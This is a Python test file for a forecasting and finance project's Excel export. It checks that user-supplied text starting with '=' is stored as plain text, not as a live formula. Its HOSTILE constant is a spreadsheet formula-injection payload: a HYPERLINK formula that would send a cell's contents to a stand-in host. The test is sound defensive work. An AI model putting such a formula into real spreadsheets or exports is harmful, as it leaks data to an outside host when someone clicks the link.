"""Every workbook: text that begins with "=" is shown as written, never run as a formula."""

from __future__ import annotations

import datetime as dt

from openpyxl import Workbook, load_workbook

from sufficiency.io.xlsx import save_workbook

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Open the plan")'


def test_only_the_workbooks_own_formulas_stay_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws["A1"] = HOSTILE  # a scenario named this, say, typed into a saved scenario
    ws["A2"], ws["A3"] = 1.0, 2.0
    ws["B1"] = "=SUM(A2:A3)"
    ws["C1"] = "=A3-A2"
    path = save_workbook(wb, tmp_path / "book.xlsx", dt.date(2026, 4, 1))
    back = load_workbook(path)["Sheet"]
    assert (back["A1"].value, back["A1"].data_type) == (HOSTILE, "s")
    assert (back["B1"].value, back["B1"].data_type) == ("=SUM(A2:A3)", "f")
    assert (back["C1"].value, back["C1"].data_type) == ("=A3-A2", "f")


def test_a_scenario_named_like_a_formula_is_text_in_spend_xlsx(tmp_path):
    """A scenario's name reaches the finance workbook's cells as typed."""
    import numpy as np
    import pandas as pd

    from sufficiency.config import FinanceParams
    from sufficiency.finance.report import default_costs, spend_report
    from sufficiency.finance.writers import write_spend_outputs
    from sufficiency.forecast.result import ForecastResult
    from sufficiency.forecast.states import AGE_BANDS, CATEGORIES

    months = pd.date_range("2026-03-31", periods=13, freq="ME")

    def result(name: str) -> ForecastResult:
        stock = np.zeros((20, 13, len(CATEGORIES), len(AGE_BANDS)), dtype=np.int32)
        stock[..., 0] = 10
        zeros = np.zeros((20, 13, len(CATEGORIES)), dtype=np.int32)
        return ForecastResult(months, CATEGORIES, AGE_BANDS, stock, zeros, zeros, zeros,
                              pd.DatetimeIndex([]), np.zeros((0, len(CATEGORIES), len(AGE_BANDS))),
                              name, 1)  # fmt: skip

    params = FinanceParams()
    report = spend_report(result("base"), params, costs=default_costs(params),
                          run_date=dt.date(2026, 4, 1), scenario=result(HOSTILE))  # fmt: skip
    write_spend_outputs(report, tmp_path, dt.date(2026, 4, 1))
    book = load_workbook(tmp_path / "spend.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]  # fmt: skip
    assert cells and all(c.data_type == "s" for c in cells)
